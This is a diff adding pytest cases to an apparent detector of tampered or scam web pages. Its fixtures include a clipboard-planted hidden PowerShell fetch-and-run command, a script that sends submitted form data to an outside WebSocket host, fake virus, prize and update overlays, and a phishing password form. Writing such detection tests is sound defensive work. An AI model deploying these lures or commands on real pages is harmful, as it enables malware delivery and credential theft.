@@ -92,3 +92,62 @@ def test_a_head_says_that_the_page_is_that_of_a_house():
 )
 def test_tags_that_nearly_name_a_script_cost_little(tag):
     assert least_cpu_s(lambda: signs(tag * 100), enough_s=0.5) < 0.5
+
+
+WORDS = "<p>" + "The choir and both orchestras play on Friday at seven in the hall of the school. " * 8 + "</p>"
+REFRESH = '<head><meta http-equiv="refresh" content="1; url=https://win.prize.test/?s=1"></head>'
+
+
+def test_a_whole_page_is_left_at_once_for_a_host_that_it_says_nothing_of():
+    assert signs(f"{REFRESH}{WORDS}") == [TamperSign.LURE]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        REFRESH,
+        f"{REFRESH}{WORDS}<p>We have moved.</p>",
+        f"{REFRESH.replace('1;', '60;')}{WORDS}",
+        f"{REFRESH.replace('win.prize.test', 'win.school.test')}{WORDS}",
+        f"{REFRESH}{WORDS}<p>Prize is our partner.</p>",
+    ],
+)
+def test_who_moves_says_so_or_leaves_nothing_behind(html):
+    assert signs(html) == []
+
+
+COVER = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">{}</div>'
+COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden iwr https://c.test/a|iex')}</script>"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        COVER.format("<p>Your computer is infected. Call support now: +1-888-555-0137</p>"),
+        COVER.format('<p>Congratulations! You have won a free phone.</p><a href="https://prize.test/">Claim</a>'),
+        COVER.format('<h1>You are using an older version</h1><a href="https://up.test/Update.js">Update</a>'),
+        '<p>Your session has expired.</p><form action="https://mail.test/p"><input type="password" name="p"></form>',
+        f"<p>Verify you are human: press Windows + R</p>{COPIES}",
+    ],
+)
+def test_pretences_lie_in_wait_on_inner_pages_as_well(html):
+    assert signs(html) == [TamperSign.LURE]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<p>Your computer is infected? Call our help desk: 01632 960155</p>",
+        COVER.format("<p>You are using an old version of your browser. Please update it.</p>"),
+        '<p>[!] The version is out of date, the latest is 1.9</p><a href="https://lab.test/machine.zip">Machine</a>',
+        '<p>Your session has expired.</p><form action="/login"><input type="password" name="p"></form>',
+        f"<p>Install the tool from your shell.</p>{COPIES}",
+    ],
+)
+def test_help_notices_and_log_ins_of_the_site_are_none(html):
+    assert signs(html) == []
+
+
+def test_all_that_is_typed_is_sent_unseen():
+    code = "document.forms[0].onsubmit=function(){new WebSocket('wss://s.test/').send(new FormData(this))}"
+    assert signs(f"<script>{code}</script>") == [TamperSign.SCRIPT_TAKES]
